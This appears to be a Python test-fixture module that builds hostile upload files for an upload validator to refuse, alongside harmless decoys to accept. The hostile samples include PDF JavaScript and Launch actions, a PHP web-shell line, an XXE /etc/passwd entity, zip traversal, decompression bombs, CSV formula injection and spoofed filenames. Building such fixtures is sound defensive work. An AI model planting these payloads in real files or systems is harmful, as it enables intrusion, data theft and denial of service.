"""Files that somebody might upload, made by a script: hostile ones that must all be refused with a
clear message, and harmless ones that must all be taken. Written before the inspection was tuned to
them.

`hostile()` and `harmless()` give {name: content}. Nothing here is dangerous by itself; EICAR is the
antivirus trade's agreed test string.
"""

import base64
import functools
import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image, PngImagePlugin

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>fetch('/ho-so/')</script>"
OFFICE = {
    "docx": (
        "word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    ),
    "xlsx": (
        "xl/workbook.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    ),
    "pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
}
MACRO = {
    "docx": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "xlsx": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    "pptx": "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
}


# --- harmless bases ------------------------------------------------------------------------------


def pdf(pages: int = 1, change=None, **save) -> bytes:
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page(page_size=(595, 842))
    if change:
        change(document)
    output = io.BytesIO()
    document.save(output, **save)
    return output.getvalue()


def picture(kind: str = "PNG", size=(64, 48), **save) -> bytes:
    output = io.BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(output, kind, **save)
    return output.getvalue()


def office(
    kind: str,
    *,
    members: dict[str, bytes] | None = None,
    content_type: str = "",
    compression=zipfile.ZIP_DEFLATED,
    without=(),
) -> bytes:
    """A minimal package of Office Open XML (ECMA-376) with further members."""
    main, main_type = OFFICE[kind]
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types '
            'xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/{main}" ContentType="{content_type or main_type}"/></Types>'
        ).encode(),
        "_rels/.rels": (
            '<?xml version="1.0"?><Relationships '
            'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            'Id="r1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'officeDocument" '
            f'Target="{main}"/></Relationships>'
        ).encode(),
        main: (
            '<?xml version="1.0"?><w:document xmlns:w="urn:w"><w:body><w:p>Giải pháp tưới '
            "chè</w:p></w:body></w:document>"
        ).encode(),
    } | (members or {})
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", compression) as package:
        for name, content in parts.items():
            if name not in without:
                package.writestr(name, content)
    return output.getvalue()


def archive(members: dict[str, bytes]) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in members.items():
            package.writestr(name, content)
    return output.getvalue()


def box(kind: bytes, content: bytes = b"", size: int | None = None) -> bytes:
    return struct.pack(">I4s", len(content) + 8 if size is None else size, kind) + content


def film(brand: bytes = b"isom", tail: bytes = b"") -> bytes:
    head = box(b"ftyp", brand + struct.pack(">I", 512) + b"isomiso2mp41")
    return head + box(b"moov", box(b"mvhd", b"\0" * 100)) + box(b"mdat", b"\0" * 4000) + tail


def relation(kind: str, target: str) -> bytes:
    return (
        '<?xml version="1.0"?><Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
        'Id="r9" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def chunk(kind: bytes, content: bytes) -> bytes:
    return (
        struct.pack(">I", len(content))
        + kind
        + content
        + struct.pack(">I", zlib.crc32(kind + content))
    )


def png_of(width: int, height: int) -> bytes:
    """A PNG that unpacks to width × height pixels and is a few kilobytes long."""
    lines = zlib.compressobj(9)
    body = (
        b"".join(lines.compress(b"\0" * (width // 8 + 2)) for _ in range(min(height, 15_000)))
        + lines.flush()
    )
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", body)
        + chunk(b"IEND", b"")
    )


# --- what must be refused ------------------------------------------------------------------------


def _bad_pdfs() -> dict[str, bytes]:
    good = pdf(3)

    def with_root(key, value):
        def change(document):
            document.Root[key] = value(document)

        return pdf(1, change)

    def script(document):
        return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")

    found = {f"cut-{share}.pdf": good[: len(good) * share // 100] for share in (1, 5, 20, 50)}
    found |= {
        "empty.pdf": b"",
        "one-byte.pdf": b"%",
        "header-only.pdf": b"%PDF-1.7\n",
        "garbage.pdf": b"%PDF-1.7\n" + bytes(range(256)) * 40,
        "zeros.pdf": b"\0" * 5000,
        "password.pdf": pdf(1, encryption=pikepdf.Encryption(owner="o", user="u")),
        "owner-password.pdf": pdf(1, encryption=pikepdf.Encryption(owner="o", user="")),
        "javascript-open.pdf": with_root("/OpenAction", script),
        "launch.pdf": with_root(
            "/OpenAction", lambda d: pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
        ),
        "javascript-names.pdf": with_root(
            "/Names",
            lambda d: pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["a", script(d)])),
        ),
        "additional-action.pdf": with_root("/AA", lambda d: pikepdf.Dictionary(WC=script(d))),
        "form-xfa.pdf": with_root(
            "/AcroForm", lambda d: pikepdf.Dictionary(XFA=d.make_stream(b"<xdp/>"), Fields=[])
        ),
        "301-pages.pdf": pdf(301),
        "2000-pages.pdf": pdf(2000),
        "no-page.pdf": pdf(0),
        "zip-behind.pdf": good + archive({"a.exe": b"MZ"}),
        "html-before.pdf": b"<html>" + SCRIPT + b"</html>\n" + good,
        "html-behind.pdf": good + b"\n" * 10 + b"<html>" + SCRIPT * 60,
        "exe.pdf": b"MZ" + b"\x90" * 4000,
        "elf.pdf": b"\x7fELF" + b"\0" * 4000,
        "html.pdf": b"<!doctype html>" + SCRIPT,
        "picture.pdf": picture(),
        "docx.pdf": office("docx"),
        "eicar.pdf": EICAR,
        "rtf.pdf": b"{\\rtf1 x}",
        "postscript.pdf": b"%!PS-Adobe-3.0\nshowpage",
    }

    def attach(document, name="a.exe", content=b"MZ"):
        document.attachments[name] = content

    found["attachment.pdf"] = pdf(1, attach)
    found["attachment-eicar.pdf"] = pdf(1, lambda document: attach(document, "e.txt", EICAR))

    def eicar_stream(document):
        document.pages[0].obj["/Contents"] = document.make_stream(b"% " + EICAR + b"\n" * 500)

    found["eicar-stream.pdf"] = pdf(1, eicar_stream, compress_streams=True, recompress_flate=True)

    def cycle(document):
        document.pages[0].obj["/Kids"] = pikepdf.Array([document.Root.Pages])
        document.Root.Pages["/Kids"] = pikepdf.Array([document.Root.Pages])

    found["page-cycle.pdf"] = pdf(1, cycle)

    def annotation(kind):
        def change(document):
            note = pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=kind,
                Rect=[0, 0, 9, 9],
                A=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="x"),
            )
            document.pages[0].obj["/Annots"] = pikepdf.Array([document.make_indirect(note)])

        return change

    found["annotation-script.pdf"] = pdf(1, annotation(pikepdf.Name.Link))
    found["rich-media.pdf"] = pdf(1, annotation(pikepdf.Name.RichMedia))
    bomb = zlib.compress(b"1 0 obj\n" + b" " * 300_000_000, 9)
    found["object-stream-bomb.pdf"] = (
        b"%PDF-1.7\n4 0 obj\n<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length "
        + str(len(bomb)).encode()
        + b">>\nstream\n"
        + bomb
        + b"\nendstream\nendobj\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 "
        b"obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n"
        b"trailer\n<</Root 1 0 R/Size 5>>\n%%EOF\n"
    )
    return found


def _bad_pictures() -> dict[str, bytes]:
    found = {}
    for kind, suffix in (("PNG", "png"), ("JPEG", "jpg"), ("WEBP", "webp")):
        good = picture(kind)
        found |= {f"cut-{share}.{suffix}": good[: len(good) * share // 100] for share in (2, 30)}
        found |= {
            f"empty.{suffix}": b"",
            f"zeros.{suffix}": b"\0" * 3000,
            f"html.{suffix}": b"<html>" + SCRIPT + b"</html>",
            f"pdf.{suffix}": pdf(),
            f"zip-behind.{suffix}": good + archive({"a.exe": b"MZ" * 50}),
            f"html-behind.{suffix}": good + b"<html><body>" + SCRIPT,
            f"php-behind.{suffix}": good + b"<?php system($_GET[0]); ?>",
            f"eicar-behind.{suffix}": good + EICAR,
            f"exe.{suffix}": b"MZ" + b"\x90" * 900,
            f"svg.{suffix}": b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
            f"gif.{suffix}": picture("GIF"),
            f"tiff.{suffix}": picture("TIFF"),
            f"bmp.{suffix}": picture("BMP"),
            f"pdf-behind.{suffix}": good + pdf(),
        }
    found |= {
        "webp-named.png": picture("WEBP"),
        "png-named.jpg": picture(),
        "jpeg-named.png": picture("JPEG"),
        "flood-10000.png": png_of(10_000, 10_000),
        "flood-14000.png": png_of(14_000, 14_000),
        "flood-claimed.png": png_of(60_000, 60_000),
        "ribbon.png": png_of(8_000_000, 1),
        "gif-script.jpg": b"GIF89a/*" + b"\0" * 20 + b"*/=1;" + SCRIPT,
    }
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", EICAR.decode(), zip=True)
    found["eicar-comment.png"] = picture("PNG", pnginfo=text)
    bomb = b"Comment\0\0" + zlib.compress(b"A" * 200_000_000, 9)
    good = picture()
    found["text-bomb.png"] = good[:33] + chunk(b"zTXt", bomb) + good[33:]
    found["eicar-comment.jpg"] = picture("JPEG", comment=EICAR)
    head = box(b"ftyp", b"heic" + struct.pack(">I", 0) + b"mif1heic")
    found |= {
        "garbage.heic": head + b"\xff" * 4000,
        "empty.heic": b"",
        "html.heic": SCRIPT * 9,
        "picture.heic": picture(),
        "head.heic": head,
    }
    return found


def _bad_office() -> dict[str, bytes]:
    found = {}
    for kind, (main, _type) in OFFICE.items():
        folder = main.partition("/")[0]
        good = office(kind)
        laughs = (
            b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b '
            b'"&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
        )
        outside = (
            b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><l>&a;</l>'
        )
        other = {"docx": "xlsx", "xlsx": "pptx", "pptx": "docx"}[kind]
        found |= {
            f"empty.{kind}": b"",
            f"cut-50.{kind}": good[: len(good) // 2],
            f"macro-type.{kind}": office(kind, content_type=MACRO[kind]),
            f"macro.{kind}": office(
                kind, members={f"{folder}/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 600}
            ),
            f"object.{kind}": office(
                kind,
                members={f"{folder}/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 600},
            ),
            f"program.{kind}": office(
                kind, members={f"{folder}/media/image1.png": b"MZ" + b"\x90" * 600}
            ),
            f"active-x.{kind}": office(
                kind, members={f"{folder}/activeX/activeX1.bin": b"\0" * 64}
            ),
            f"template.{kind}": office(
                kind,
                members={
                    f"{folder}/_rels/document.xml.rels": relation(
                        "attachedTemplate", "http://192.0.2.1/x.dotm"
                    )
                },
            ),
            f"linked-object.{kind}": office(
                kind,
                members={
                    f"{folder}/_rels/document.xml.rels": relation("oleObject", "file://192.0.2.1/x")
                },
            ),
            f"laughs.{kind}": office(kind, members={main: laughs}),
            f"outside.{kind}": office(kind, members={main: outside}),
            f"climbs.{kind}": office(kind, members={"../../etc/cron.d/x": b"x"}),
            f"no-types.{kind}": office(kind, without=["[Content_Types].xml"]),
            f"no-main.{kind}": office(kind, without=[main]),
            f"bomb.{kind}": office(kind, members={f"{folder}/media/a.bin": b"\0" * 300_000_000}),
            f"many.{kind}": office(
                kind, members={f"{folder}/x{n}.xml": b"<x/>" for n in range(12_000)}
            ),
            f"nested.{kind}": office(
                kind,
                members={
                    f"{folder}/media/a.zip": archive({"b.zip": archive({"c": b"\0" * 100_000})})
                },
            ),
            f"protected.{kind}": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 3000,
            f"zip.{kind}": archive({"a.txt": b"abc"}),
            f"{other}-named.{kind}": office(other),
            f"eicar.{kind}": office(kind, members={f"{folder}/media/a.txt": EICAR}),
            f"eicar-base64.{kind}": office(
                kind, members={f"{folder}/media/b.txt": base64.b64encode(EICAR)}
            ),
            f"script-before.{kind}": SCRIPT + good,
            f"bad-xml.{kind}": office(kind, members={main: b"<w:document><w:body>"}),
        }
        locked = bytearray(good)
        for place in range(
            len(locked) - 4
        ):  # the flag “encrypted” in every local and central header
            if locked[place : place + 4] == b"PK\x03\x04":
                locked[place + 6] |= 1
            if locked[place : place + 4] == b"PK\x01\x02":
                locked[place + 8] |= 1
        found[f"locked.{kind}"] = bytes(locked)
    return found


def _bad_films() -> dict[str, bytes]:
    good = film()
    return {
        "empty.mp4": b"",
        "html.mp4": SCRIPT * 40,
        "cut.mp4": good[:200],
        "quicktime.mp4": film(b"qt  "),
        "no-moov.mp4": box(b"ftyp", b"isom\0\0\0\0") * 3,
        "lying-box.mp4": good[:32] + box(b"moov", b"\0" * 50, size=2**31),
        "zip-behind.mp4": film(tail=archive({"a.exe": b"MZ"})),
        "html-behind.mp4": film(tail=b"<html>" + SCRIPT),
        "eicar-behind.mp4": film(tail=EICAR),
        "exe.mp4": b"MZ" * 300,
        "avi.mp4": b"RIFF\0\0\0\0AVI " * 20,
    }


def _bad_kinds() -> dict[str, bytes]:
    good, page = pdf(), b"<html>" + SCRIPT
    found = {
        f"anything.{suffix}": content
        for suffix, content in {
            "zip": archive({"a.pdf": good}),
            "rar": b"Rar!\x1a\x07\x00" + b"\0" * 99,
            "7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 99,
            "tar.gz": b"\x1f\x8b" + b"\0" * 99,
            "exe": b"MZ" * 99,
            "bat": b"@echo off",
            "js": b"alert(1)",
            "html": page,
            "htm": page,
            "svg": b"<svg/>",
            "doc": b"\xd0\xcf\x11\xe0" * 99,
            "xls": b"\xd0\xcf" * 99,
            "ppt": b"\xd0\xcf" * 99,
            "docm": office("docx"),
            "xlsm": office("xlsx"),
            "pptm": office("pptx"),
            "lnk": b"L\0\0\0" * 20,
            "iso": b"\0" * 3000,
            "txt": b"abc",
            "csv": b"=cmd|'/c calc'!A1",
            "eml": b"From: a",
            "mov": film(b"qt  "),
            "gif": picture("GIF"),
            "php": b"<?php",
            "xml": b"<x/>",
        }.items()
    }
    right_to_left, hidden = "\u202e", "\u200b"
    found |= {
        "no-suffix": good,
        ".pdf": good,
        f"anh{right_to_left}fdp.exe": b"MZ",
        f"thuyet-minh{right_to_left}gpj.pdf": good,
        f"ban{hidden}ve.pdf": good,
        "dong\nhai.pdf": good,
        "report.pdf.exe": b"MZ" * 20,
        "report.pdf ": good,
        "report.pdf.": good,
        "nul\0.pdf": good,
        "tab\tten.pdf": good,
        "d" * 230 + ".exe": b"MZ" * 20,
        "thuyết minh.pdf.js": b"alert(1)",
        "bell\a.pdf": good,
    }
    return found


@functools.cache
def hostile() -> dict[str, bytes]:
    """At least 150 files that must be refused. Made when a test asks for them, once."""
    return _bad_pdfs() | _bad_pictures() | _bad_office() | _bad_films() | _bad_kinds()


# --- what must be taken --------------------------------------------------------------------------


@functools.cache
def harmless() -> dict[str, bytes]:
    """Decoys: ordinary files, some of them odd, all of them to be accepted."""

    def link(document):
        action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.vn/")
        note = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action
        )
        document.pages[0].obj["/Annots"] = pikepdf.Array([document.make_indirect(note)])

    def opens_at_page(document):
        document.Root["/OpenAction"] = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])

    decomposed = "Thuye\u0302\u0301t minh gia\u0309i pha\u0301p.pdf"
    return {
        "Thuyết minh giải pháp.pdf": pdf(3),
        decomposed: pdf(2),
        "a.PDF": pdf(300),
        "link.pdf": pdf(1, link),
        "opens.pdf": pdf(1, opens_at_page),
        "report.exe.pdf": pdf(),
        "l" * 260 + ".pdf": pdf(),
        "stamped.pdf": pdf(1) + b"\n\n",
        "ảnh.png": picture(),
        "ảnh.jpg": picture("JPEG"),
        "photo.JPEG": picture("JPEG", (4000, 3000)),
        "camera.jpg": picture("JPEG", exif=b"Exif\0\0MM\0*\0\0\0\x08\0\0\0\0\0\0"),
        "motion.jpg": picture("JPEG") + film(),
        "web.webp": picture("WEBP"),
        "wide.png": picture(size=(3000, 200)),
        "mô tả.docx": office("docx"),
        "bảng.xlsx": office("xlsx"),
        "trình chiếu.pptx": office("pptx"),
        "hình.docx": office("docx", members={"word/media/image1.png": picture()}),
        "link.docx": office(
            "docx",
            members={"word/_rels/document.xml.rels": relation("hyperlink", "https://example.vn")},
        ),
        "chart.pptx": office(
            "pptx", members={"ppt/embeddings/Microsoft_Excel_Sheet1.xlsx": office("xlsx")}
        ),
        "phim.mp4": film(),
        "dash.mp4": film(b"mp42"),
    }
